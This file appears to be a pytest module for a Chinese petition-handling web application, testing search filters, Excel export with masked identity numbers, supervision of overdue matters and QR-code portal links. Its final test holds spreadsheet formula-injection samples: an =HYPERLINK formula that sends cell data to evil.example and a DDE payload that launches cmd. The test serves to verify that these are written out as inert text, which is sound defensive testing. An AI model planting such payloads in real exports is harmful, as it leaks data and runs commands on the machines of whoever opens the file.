"""综合查询, Excel export, 督查督办 and 码上办 through Django's test client."""

from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import sh
from tests.petitions.helpers import ID_A, ID_B, register
from xinfang.petitions import services
from xinfang.petitions.models import Matter, Supervision
from xinfang.web import search as search_mod

# One county for the module, a deep copy per test (tests/conftest.py module_db).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("module_county")]


@pytest.fixture
def matters(county, frozen):
    """Four matters that differ in one filterable property each."""
    a = register(county, sh(2026, 2, 2), title="小区物业乱收停车费")
    b = register(county, sh(2026, 2, 10), title="拖欠农民工工资", channel="letter",
                 request="请求督促支付工资", content="工程公司拖欠三个月工资。",
                 category=county.categories["LD01"],
                 division=county.villages[2], id_number=ID_B, phone="13900139000")
    c = register(county, sh(2026, 2, 20), title="建议增设公交线路", klass="suggestion",
                 request="建议开通城关至河口的公交", content="城关至河口没有公交，群众出行不便。",
                 category=county.categories["JT02"],
                 division=county.villages[3], id_number=ID_B, phone="13900139000")
    d = register(county, sh(2026, 3, 1), title="物业不作为电梯长期停运",
                 request="请求督促物业维修电梯", id_number=ID_B, phone="13700137000")
    services.transition(d, "forward", user=county.users["officer"],
                        data={"to_body": county.dept("住建").pk})
    return a, b, c, d


def _numbers(response) -> set[str]:
    page = response.content.decode()
    return {m.number for m in Matter.objects.all() if m.number in page}


def _search(c, **params):
    r = c.get(reverse("search"), params)
    assert r.status_code == 200
    return _numbers(r)


def test_search_filters_each_narrow_the_result(login, county, matters):
    a, b, cc, d = matters
    c = login(county.users["officer"])
    everything = {m.number for m in matters}
    assert _search(c, q="") == everything
    assert _search(c, q="物业") == {a.number, d.number}  # keyword in the title
    assert _search(c, q="物业 电梯") == {d.number}  # every word must match
    assert _search(c, q="督促支付") == {b.number}  # keyword in the request
    assert _search(c, q="出行不便") == {cc.number}  # keyword in the facts (content)
    assert _search(c, q=b.number) == {b.number}  # the matter's number
    assert _search(c, channel="letter") == {b.number}
    assert _search(c, klass="suggestion") == {cc.number}
    # A top category includes its children (劳动和社会保障 → 拖欠工资).
    assert _search(c, category=county.categories["LD"].pk) == {b.number}
    # A township includes its villages.
    assert _search(c, division=county.townships[1].code) == {b.number, cc.number}
    assert _search(c, unit=county.dept("住建").pk) == {d.number}
    assert _search(c, state="dispatched") == {d.number}
    assert _search(c, state="open") == everything
    assert _search(c, date_from="2026-02-05", date_to="2026-02-20") == {b.number, cc.number}


def test_latin_letters_match_in_either_case_and_chinese_as_typed(login, county, frozen):
    m = register(county, sh(2026, 2, 2), title="A5区阳光小区WiFi信号塔噪音")
    c = login(county.users["officer"])
    for q in ("a5区", "wifi", "WIFI", "信号塔", "A5区 噪音"):
        assert _search(c, q=q) == {m.number}, q
    assert _search(c, q="信号站") == set()


def test_search_shows_newest_first_and_pages(login, county, matters, monkeypatch):
    monkeypatch.setattr(search_mod, "PER_PAGE", 3)
    c = login(county.users["officer"])
    page = c.get(reverse("search"), {"q": ""}).content.decode()
    a, b, cc, d = matters
    assert page.index(d.number) < page.index(cc.number) < page.index(b.number)
    assert a.number not in page and "下一页" in page
    second = c.get(reverse("search"), {"q": "", "page": 2}).content.decode()
    assert a.number in second and d.number not in second and "上一页" in second


def test_search_is_limited_to_what_the_user_may_see(login, county, matters):
    _a, _b, _cc, d = matters
    assert _search(login(county.users["handler"]), q="") == {d.number}
    assert _search(login(county.users["other_handler"]), q="") == set()


def test_overdue_filter_finds_matters_past_their_deadline(login, county, matters):
    a, _b, _cc, d = matters
    c = login(county.users["officer"])
    # On 2 March the early registrations are past their 15-day disposal limit (§22); the
    # freshly forwarded matter is not.
    overdue = _search(c, overdue="on")
    assert a.number in overdue and d.number not in overdue
    assert overdue == {m.number for m in Matter.objects.filter(next_due__lt=date(2026, 3, 2))}
    with time_machine.travel(sh(2026, 4, 20), tick=False):
        c = login(county.users["officer"])  # the session expired meanwhile
        assert _search(c, overdue="on") == {m.number for m in matters}


def test_bad_date_range_is_a_400_with_a_chinese_message(login, county, matters):
    r = login(county.users["officer"]).get(reverse("search"),
                                           {"date_from": "2026-03-01", "date_to": "2026-02-01"})
    assert r.status_code == 400 and "结束日期不能早于开始日期" in r.content.decode()


def test_excel_export_has_chinese_headers_and_masked_identity_only(login, county, matters):
    c = login(county.users["officer"])
    r = c.get(reverse("search_export"), {"q": "物业"})
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in r["Content-Disposition"]
    ws = load_workbook(BytesIO(r.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("信访件编号", "收到时间", "信访形式")
    assert {"信访人", "身份证号码", "手机"} <= set(rows[0])
    a, _, _, d = matters
    assert [row[0] for row in rows[1:]] == [d.number, a.number]
    cells = " ".join(str(v) for row in rows for v in row if v is not None)
    for secret in (ID_A, ID_B, "13800138000", "13700137000", "王大明"):
        assert secret not in cells
    col = rows[0].index("身份证号码")
    assert rows[2][col].startswith(ID_A[:6]) and rows[2][col].endswith(ID_A[-4:])
    assert "*" in rows[2][col]


def test_a_keyword_export_holds_what_the_filtered_search_holds_newest_first(
        login, county, matters, monkeypatch):
    """A keyword's export takes its matters from the text index's capped read (issue 19);
    whoever exports — the county's officer, the unit a matter was sent to — it holds exactly
    the matters of the same filters, newest first, and no more than the export's cap."""
    from xinfang.web import search as search_view

    def exported(user, **params):
        r = login(user).get(reverse("search_export"), params)
        assert r.status_code == 200
        return [row[0] for row in list(load_workbook(BytesIO(r.content)).active
                                       .iter_rows(values_only=True))[1:]]

    def expected(user, **params):
        form = search_view.SearchForm(params, user=user)
        assert form.is_valid()
        return [m.number for m in search_view.filtered(user, form.cleaned_data)]

    officer, unit = county.users["officer"], county.users["handler"]  # 住建: d sent to it
    for user in (officer, unit):
        for params in ({"q": "物业"}, {"q": "工资"}, {"q": "物业", "date_from": "2026-02-15"},
                       {"q": "高空抛物"}):
            assert exported(user, **params) == expected(user, **params), (user, params)
    assert exported(officer, q="物业") == [matters[3].number, matters[0].number]
    monkeypatch.setattr(search_view, "EXPORT_LIMIT", 1)
    assert exported(officer, q="物业") == [matters[3].number]


def test_export_of_a_report_hides_identity_outside_the_chain(login, county, frozen):
    register(county, sh(2026, 3, 2), klass="report", accused_name="某所长",
             title="检举某所长吃拿卡要")
    r = login(county.users["leader"]).get(reverse("search_export"), {"klass": "report"})
    rows = list(load_workbook(BytesIO(r.content)).active.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][rows[0].index("信访人")] == "（保密）"
    assert rows[1][rows[0].index("身份证号码")] in (None, "")


# --------------------------------------------------------------------------- 督查督办


@pytest.fixture
def late(county, matters):
    """Three weeks on: the unsigned 转送 and the undisposed registrations are overdue."""
    with time_machine.travel(sh(2026, 3, 23), tick=False) as t:
        yield t


def test_supervision_groups_near_and_overdue_matters_by_unit(login, county, matters, late):
    a, b, _cc, d = matters
    r = login(county.users["supervisor"]).get(reverse("supervision"))
    assert r.status_code == 200
    page = r.content.decode()
    xf, zj = county.xinfang.name, county.dept("住建").name
    assert xf in page and zj in page
    # Each matter sits under the unit that owes its nearest deadline.
    xf_part = page[page.index(xf, page.index("<main")):]
    assert d.number in page[page.index(zj, page.index("<main")):]
    assert a.number in xf_part and b.number in xf_part
    assert "超期" in page
    assert page.count('name="matter"') == len(set(Matter.objects.values_list("pk", flat=True)))


def test_supervision_is_empty_when_nothing_is_due(login, county, frozen):
    register(county, sh(2026, 3, 2))  # its 15-day limit is far off
    page = login(county.users["supervisor"]).get(reverse("supervision")).content.decode()
    assert "辖区内没有临期或超期的事项" in page


def test_bulk_supervise_supervises_each_checked_matter_with_one_message(
        login, county, matters, late):
    a, _b, _cc, d = matters
    c = login(county.users["supervisor"])
    r = c.post(reverse("supervision"), {"matter": [a.pk, d.pk], "note": "请于本周内办结",
                                        "feedback_days": 7}, follow=True)
    page = r.content.decode()
    assert "已对 2 件事项发出督办单" in page
    assert Supervision.objects.filter(kind="manual").count() == 2
    assert set(Matter.objects.filter(supervised=True).values_list("pk", flat=True)) == {a.pk, d.pk}
    assert Supervision.objects.get(matter=d, kind="manual").body == county.dept("住建")


def test_bulk_supervise_without_a_selection_says_so(login, county, matters, late):
    r = login(county.users["supervisor"]).post(reverse("supervision"), {"note": "x",
                                                                      "feedback_days": 7})
    assert r.status_code == 400 and "请勾选要督办的事项" in r.content.decode()
    assert not Supervision.objects.filter(kind="manual").exists()


def test_bulk_supervise_ignores_matters_the_user_cannot_see(login, county, matters, late):
    a, *_ = matters
    c = login(county.users["officer"])
    c.post(reverse("supervision"), {"matter": [a.pk, 999999], "note": "督办",
                                    "feedback_days": 7})
    assert Supervision.objects.filter(kind="manual").count() == 1


@pytest.mark.parametrize("key", ["handler", "unit_head", "registrar"])
def test_supervision_is_forbidden_to_unit_staff_and_registrars(login, county, key):
    assert login(county.users[key]).get(reverse("supervision")).status_code == 403


# --------------------------------------------------------------------------- 码上办


@pytest.mark.parametrize("key,status", [("officer", 200), ("admin", 200), ("registrar", 403),
                                        ("supervisor", 403), ("handler", 403)])
def test_qr_page_is_for_officers_and_admins_only(login, county, key, status):
    assert login(county.users[key]).get(reverse("qr_codes")).status_code == status


def test_qr_page_prints_one_code_per_place_and_per_unit(login, county):
    c = login(county.users["officer"])
    page = c.get(reverse("qr_codes")).content.decode()
    village = county.villages[0]
    assert f"/portal/submit/?division={village.code}&amp;via=qr" in page
    assert page.count('src="data:image/png;base64,') >= len(county.villages)
    assert f"{village.name}码上办二维码" in page  # alt text
    units = c.get(reverse("qr_codes"), {"kind": "unit"}).content.decode()
    assert f"/portal/submit/?body={county.dept('住建').pk}&amp;via=qr" in units


def test_qr_link_prefills_the_portal_and_records_the_qr_channel(client, county, sms):
    village = county.villages[1]
    page = client.get(reverse("portal:submit"), {"division": village.code, "via": "qr"})
    html = page.content.decode()
    assert f'<option value="{village.code}" selected>' in html
    assert 'name="via" value="qr"' in html
    zj = county.dept("住建")
    html = client.get(reverse("portal:submit"), {"body": zj.pk, "via": "qr"}).content.decode()
    assert f'<option value="{zj.division.code}" selected>' in html and zj.name in html
    client.post(reverse("portal:send_code"), {"phone": "13600136000"})
    r = client.post(reverse("portal:submit"), {
        "name": "钱多多", "phone": "13600136000", "division": village.code, "klass": "appeal",
        "title": "村道路灯不亮", "request": "请求修复路灯", "content": "村口路灯坏了三个月。",
        "token": "qr-test-token", "via": "qr", "code": sms.last_code("13600136000")})
    assert r.status_code == 201
    assert Matter.objects.get(title="村道路灯不亮").channel == "qr"


def test_qr_codes_point_at_the_public_portal_address_when_configured(login, county,
                                                                     monkeypatch):
    monkeypatch.setenv("XINFANG_PUBLIC_URL", "https://xf.example.gov.cn/")
    page = login(county.users["officer"]).get(reverse("qr_codes")).content.decode()
    assert f"https://xf.example.gov.cn/portal/submit/?division={county.villages[0].code}" in page


def test_export_writes_formula_like_titles_as_text(login, county, frozen):
    """Issue 14 item 14: a citizen's ``=HYPERLINK(...)`` title must not become a live formula."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    register(county, sh(2026, 2, 2), title=evil, request="@SUM(1+1)*cmd|' /C calc'!A0")
    r = login(county.users["officer"]).get(reverse("search_export"), {"q": "HYPERLINK"})
    ws = load_workbook(BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    title = ws.cell(row=2, column=header.index("标题") + 1)
    request = ws.cell(row=2, column=header.index("诉求") + 1)
    assert title.data_type == "s" and title.value == "'" + evil
    assert request.data_type == "s" and request.value.startswith("'@SUM")
    for row in ws.iter_rows(min_row=2):
        assert all(c.data_type == "s" for c in row if c.value is not None)
